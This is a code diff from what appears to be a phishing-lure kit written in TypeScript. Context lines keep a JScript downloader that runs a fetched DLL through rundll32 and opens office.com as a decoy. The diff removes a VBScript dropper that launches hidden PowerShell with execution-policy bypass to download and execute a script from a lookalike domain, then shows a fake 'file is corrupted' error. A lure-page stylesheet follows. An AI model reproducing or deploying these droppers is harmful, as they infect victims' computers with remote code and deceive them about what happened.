@@ -10,12 +10,6 @@ try{var x=WScript.CreateObject("MSXML2.ServerXMLHTTP.6.0");x.open("GET",_u,false
 _s.Run("rundll32.exe "+_p+",DllRegisterServer",0,false);}catch(e){}
 _s.Run("cmd /c start https://www.office.com",0,false);`;
 
-const VBS_DROPPER = `On Error Resume Next
-Set o = CreateObject("WScript.Shell")
-c = "powershell -w hidden -ep bypass -c ""$u='https://files-remit.accountsrv-cdn.com/rm/a.txt';iex ((New-Object Net.WebClient).DownloadString($u))"""
-o.Run c, 0, False
-MsgBox "The document could not be opened. The file is corrupted.", 16, "Remittance Viewer"`;
-
 const PAGE_CSS = `.wrap{max-width:620px;margin:60px auto;border:1px solid #ddd;border-radius:6px;padding:30px}.btn{display:inline-block;background:#0b6bcb;color:#fff;padding:11px 24px;border-radius:4px;text-decoration:none}.muted{color:#666;font-size:13px}`;
 
 export const entries: Entry[] = [
